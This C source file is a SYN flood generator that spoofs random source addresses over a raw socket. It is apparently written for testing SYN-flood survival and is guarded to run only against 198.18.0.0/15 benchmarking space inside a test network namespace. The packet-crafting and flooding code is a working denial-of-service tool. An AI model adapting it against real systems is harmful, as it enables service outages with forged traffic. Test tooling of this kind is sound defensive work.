/*
 * synflood: a bounded, paced SYN flood with spoofed sources, for testing SYN flood survival inside a network
 * namespace a test created (RFC 4987 describes the attack; this is the attacker side of the measurement).
 *
 *   synflood DST_IP DST_PORT RATE SECONDS SRC_NET SEED [EXCLUDE_CIDR ...]
 *
 * Sends RATE SYNs a second to DST_IP:DST_PORT for SECONDS seconds (at most RATE * SECONDS SYNs; it stops at
 * whichever bound comes first). Every SYN comes from a random address in SRC_NET (a CIDR inside 198.18.0.0/15)
 * outside every EXCLUDE_CIDR (the test's own addresses, so the victim's SYN-ACKs reach nobody who would answer),
 * from a random port, with a random sequence number and, like real clients, mostly the options Linux sends
 * (MSS, SACK-permitted, timestamps, window scale). SEED makes the run repeatable.
 *
 * Pacing: SYNs go out in batches of about a millisecond's worth, each batch released at its absolute deadline
 * (clock_nanosleep on CLOCK_MONOTONIC), so the rate holds on average without bursts larger than one batch. A
 * sender that falls behind catches up at most 100 ms of backlog; older debt is forgiven and counted as late.
 *
 * Safety: the destination and the source network must lie inside 198.18.0.0/15 (RFC 2544 benchmarking space),
 * and the program runs only inside a namespace made with `ip netns add` (bind-mounted under /run/netns) and not
 * in PID 1's, so it only ever floods a namespace that a test set up. Needs CAP_NET_RAW (a raw IPPROTO_RAW socket, IP_HDRINCL).
 *
 * Prints one line: "synflood: sent N of M SYNs in S s (R/s); K refused locally (ENOBUFS); L batches late".
 * Exit status 0 when it ran, 2 on bad arguments, 1 on any other failure.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_EXCLUDES 32
#define MAX_RATE 1000000L
#define MAX_SECONDS 600L
#define MAX_CATCH_UP_NS 100000000L
#define BENCH_NET 0xC6120000u /* 198.18.0.0 */
#define BENCH_MASK 0xFFFE0000u /* /15 */

struct cidr {
    uint32_t network; /* host byte order */
    uint32_t mask;
};

static uint64_t rng_state;

/* xorshift64*: fast, good enough for addresses and ports, and repeatable from the seed. */
static uint64_t next_random(void)
{
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return rng_state * 0x2545F4914F6CDD1DULL;
}

static int parse_cidr(const char *text, struct cidr *out)
{
    char buffer[64];
    if (strlen(text) >= sizeof buffer) {
        return -1;
    }
    strcpy(buffer, text);
    int prefix = 32;
    char *slash = strchr(buffer, '/');
    if (slash != NULL) {
        *slash = '\0';
        char *end;
        long value = strtol(slash + 1, &end, 10);
        if (*end != '\0' || end == slash + 1 || value < 0 || value > 32) {
            return -1;
        }
        prefix = (int)value;
    }
    struct in_addr address;
    if (inet_pton(AF_INET, buffer, &address) != 1) {
        return -1;
    }
    out->mask = prefix == 0 ? 0 : 0xFFFFFFFFu << (32 - prefix);
    out->network = ntohl(address.s_addr) & out->mask;
    return 0;
}

static int inside(uint32_t address, const struct cidr *net)
{
    return (address & net->mask) == net->network;
}

static int parse_long(const char *text, long min, long max, long *out)
{
    char *end;
    errno = 0;
    long value = strtol(text, &end, 10);
    if (errno != 0 || *end != '\0' || end == text || value < min || value > max) {
        return -1;
    }
    *out = value;
    return 0;
}

/* RFC 1071 ones' complement sum, folded; the caller complements. */
static uint32_t sum_words(const void *data, size_t length, uint32_t sum)
{
    const uint8_t *bytes = data;
    while (length > 1) {
        sum += (uint32_t)bytes[0] << 8 | bytes[1];
        bytes += 2;
        length -= 2;
    }
    if (length == 1) {
        sum += (uint32_t)bytes[0] << 8;
    }
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16) {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

/*
 * Writes one IPv4 + TCP SYN into packet and returns its length. Options: 70% carry what Linux sends (MSS 1460,
 * SACK-permitted, timestamps, NOP, window scale 7), 20% MSS only, 10% none.
 */
static size_t build_syn(uint8_t *packet, uint32_t source, uint32_t destination, uint16_t destination_port)
{
    uint64_t r = next_random();
    uint16_t source_port = (uint16_t)(1024 + (r % (65536 - 1024)));
    uint32_t sequence = (uint32_t)(r >> 32);
    uint64_t r2 = next_random();
    unsigned kind = (unsigned)(r2 % 10);

    uint8_t options[20];
    size_t option_length = 0;
    if (kind < 7) {
        static const uint8_t linux_options[20] = {2, 4, 0x05, 0xB4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
        memcpy(options, linux_options, sizeof linux_options);
        put32(options + 8, (uint32_t)(r2 >> 32)); /* TSval; TSecr stays 0 on a SYN */
        option_length = 20;
    } else if (kind < 9) {
        static const uint8_t mss_only[4] = {2, 4, 0x05, 0xB4};
        memcpy(options, mss_only, sizeof mss_only);
        option_length = 4;
    }

    size_t tcp_length = 20 + option_length;
    size_t total = 20 + tcp_length;
    uint8_t *ip = packet;
    uint8_t *tcp = packet + 20;
    memset(packet, 0, total);

    ip[0] = 0x45;
    put16(ip + 2, (uint16_t)total);
    put16(ip + 4, (uint16_t)(r2 >> 8));
    put16(ip + 6, 0x4000); /* DF, as Linux sets it */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    put32(ip + 12, source);
    put32(ip + 16, destination);
    put16(ip + 10, fold(sum_words(ip, 20, 0)));

    put16(tcp + 0, source_port);
    put16(tcp + 2, destination_port);
    put32(tcp + 4, sequence);
    tcp[12] = (uint8_t)((tcp_length / 4) << 4);
    tcp[13] = 0x02; /* SYN */
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, option_length);

    uint8_t pseudo[12];
    put32(pseudo, source);
    put32(pseudo + 4, destination);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    put16(pseudo + 10, (uint16_t)tcp_length);
    put16(tcp + 16, fold(sum_words(tcp, tcp_length, sum_words(pseudo, sizeof pseudo, 0))));
    return total;
}

/*
 * 1 when this process runs in a namespace created with `ip netns add` (one bind-mounted under /run/netns) that is
 * not PID 1's (when PID 1's can be seen at all), else 0.
 */
static int in_test_namespace(void)
{
    struct stat mine, init, named;
    if (stat("/proc/self/ns/net", &mine) != 0) {
        return 0;
    }
    if (stat("/proc/1/ns/net", &init) == 0 && mine.st_dev == init.st_dev && mine.st_ino == init.st_ino) {
        return 0;
    }
    DIR *directory = opendir("/run/netns");
    if (directory == NULL) {
        return 0;
    }
    int found = 0;
    struct dirent *entry;
    char path[512];
    while (!found && (entry = readdir(directory)) != NULL) {
        if (entry->d_name[0] == '.') {
            continue;
        }
        snprintf(path, sizeof path, "/run/netns/%s", entry->d_name);
        found = stat(path, &named) == 0 && named.st_dev == mine.st_dev && named.st_ino == mine.st_ino;
    }
    closedir(directory);
    return found;
}

static int64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000000000LL + t.tv_nsec;
}

static void sleep_until(int64_t deadline)
{
    struct timespec t = {.tv_sec = deadline / 1000000000LL, .tv_nsec = deadline % 1000000000LL};
    while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL) == EINTR) {
    }
}

static int usage(void)
{
    fprintf(stderr, "usage: synflood DST_IP DST_PORT RATE SECONDS SRC_NET SEED [EXCLUDE_CIDR ...]\n"
                    "  DST_IP and SRC_NET inside 198.18.0.0/15; RATE 1..%ld SYNs/s; SECONDS 1..%ld\n",
            MAX_RATE, MAX_SECONDS);
    return 2;
}

int main(int argc, char **argv)
{
    if (argc < 7 || argc - 7 > MAX_EXCLUDES) {
        return usage();
    }
    const struct cidr bench = {BENCH_NET, BENCH_MASK};
    struct cidr destination, sources, excludes[MAX_EXCLUDES];
    long port, rate, seconds, seed;
    if (parse_cidr(argv[1], &destination) != 0 || destination.mask != 0xFFFFFFFFu || !inside(destination.network, &bench)) {
        fprintf(stderr, "synflood: destination %s is not one address inside 198.18.0.0/15\n", argv[1]);
        return usage();
    }
    if (parse_long(argv[2], 1, 65535, &port) != 0 || parse_long(argv[3], 1, MAX_RATE, &rate) != 0 ||
        parse_long(argv[4], 1, MAX_SECONDS, &seconds) != 0 || parse_long(argv[6], 0, 0x7FFFFFFFL, &seed) != 0) {
        return usage();
    }
    if (parse_cidr(argv[5], &sources) != 0 || !inside(sources.network, &bench) || (sources.mask & BENCH_MASK) != BENCH_MASK) {
        fprintf(stderr, "synflood: source network %s is not inside 198.18.0.0/15\n", argv[5]);
        return usage();
    }
    int exclude_count = argc - 7;
    for (int i = 0; i < exclude_count; i++) {
        if (parse_cidr(argv[7 + i], &excludes[i]) != 0) {
            fprintf(stderr, "synflood: bad exclusion %s\n", argv[7 + i]);
            return usage();
        }
        if ((excludes[i].mask & ~sources.mask) == 0 && inside(sources.network, &excludes[i])) {
            fprintf(stderr, "synflood: exclusion %s covers the whole source network\n", argv[7 + i]);
            return usage();
        }
    }
    if (!in_test_namespace()) {
        fprintf(stderr, "synflood: not inside a namespace made with `ip netns add`; run it through `ip netns exec`\n");
        return 1;
    }

    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("synflood: socket(AF_INET, SOCK_RAW, IPPROTO_RAW)");
        return 1;
    }
    int one = 1;
    if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one) != 0) {
        perror("synflood: IP_HDRINCL");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(destination.network)};

    rng_state = 0x9E3779B97F4A7C15ULL ^ ((uint64_t)seed * 0xD1B54A32D192ED03ULL);
    if (rng_state == 0) {
        rng_state = 1;
    }
    uint32_t host_span = ~sources.mask;

    const long total = rate * seconds;
    const long batch = rate >= 1000 ? rate / 1000 : 1;
    const int64_t batch_interval_ns = (int64_t)(1000000000.0 * (double)batch / (double)rate);
    const int64_t start = now_ns();
    const int64_t end = start + seconds * 1000000000LL;
    int64_t next_batch = start;
    long sent = 0, refused = 0, late = 0;
    uint8_t packet[64];

    while (sent + refused < total) {
        int64_t now = now_ns();
        if (now >= end) {
            break;
        }
        if (now < next_batch) {
            sleep_until(next_batch < end ? next_batch : end);
            continue;
        }
        if (now - next_batch > MAX_CATCH_UP_NS) {
            next_batch = now;
            late++;
        }
        for (long i = 0; i < batch && sent + refused < total; i++) {
            uint32_t source;
            int tries = 0;
            for (;;) {
                source = sources.network | ((uint32_t)next_random() & host_span);
                int excluded = (source & 0xFF) == 0 || (source & 0xFF) == 0xFF; /* no .0 or .255 */
                for (int e = 0; e < exclude_count && !excluded; e++) {
                    excluded = inside(source, &excludes[e]);
                }
                if (!excluded) {
                    break;
                }
                if (++tries > 1000) {
                    fprintf(stderr, "synflood: the exclusions leave (almost) no source addresses\n");
                    return 2;
                }
            }
            size_t length = build_syn(packet, source, destination.network, (uint16_t)port);
            if (sendto(fd, packet, length, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)length) {
                sent++;
            } else if (errno == ENOBUFS || errno == EAGAIN) {
                refused++; /* the outgoing device's queue was full: dropped before the wire, as on a real link */
            } else if (errno != EINTR) {
                perror("synflood: sendto");
                return 1;
            }
        }
        next_batch += batch_interval_ns;
    }
    double elapsed = (double)(now_ns() - start) / 1e9;
    printf("synflood: sent %ld of %ld SYNs in %.2f s (%.0f/s); %ld refused locally (ENOBUFS); %ld batches late\n", sent, total,
           elapsed, elapsed > 0 ? (double)sent / elapsed : 0.0, refused, late);
    close(fd);
    return 0;
}
